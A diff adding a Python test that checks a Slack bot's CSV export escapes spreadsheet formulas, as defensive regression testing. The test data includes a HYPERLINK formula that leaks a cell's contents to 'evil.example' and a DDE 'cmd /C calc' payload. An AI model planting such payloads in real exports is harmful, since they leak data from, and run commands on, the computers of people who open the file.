@@ -7,6 +7,8 @@ and its notification) carries a broadcast, a mention or a disguised link: `&`, `
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from typing import Any
 
@@ -71,3 +73,25 @@ def test_markup_in_stories_customers_and_team_names_is_posted_as_text(harness: H
     harness.fake.wait_for("response_url", predicate=lambda c: "&lt;!channel&gt; &amp; " in json.dumps(c.params))
     harness.fake.wait_for("files.completeUploadExternal", count=2, timeout=30)  # the charts, before the app stops
     assert_no_markup(harness)
+
+
+def test_the_export_shows_formulas_as_text(harness: Harness) -> None:
+    make_team(harness, MEMBERS)
+    harness.sender.command("/pulse", "rename -2+3 team", user_id=ADMIN, channel_id=CHANNEL)
+    harness.fake.wait_for("response_url")
+    stories = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
+    for index, story in enumerate(stories):
+        harness.sender.view_submission(
+            user_id="U001", callback_id="win_modal", values=win_values(story, "", []), view_id=f"V{index}"
+        )
+        harness.fake.wait_for("chat.postEphemeral", count=index + 1)
+    harness.sender.command("/pulse", "export", user_id=ADMIN, channel_id=CHANNEL)
+    harness.fake.wait_for("files.completeUploadExternal", timeout=15)
+    [upload] = [f for f in harness.fake.uploaded_files if f.filename == "pulssi-export.csv"]
+    rows = list(csv.DictReader(io.StringIO(upload.content.decode())))
+    wins = [row for row in rows if row["section"] == "win"]
+    assert sorted(row["text"] for row in wins) == sorted("'" + story.strip() for story in stories)  # stored stripped
+    assert {row["team"] for row in wins} == {"'-2+3 team"}
+    for row in rows:
+        for cell in row.values():
+            assert not (cell or "").startswith(("=", "+", "-", "@", "\t", "\r")), row
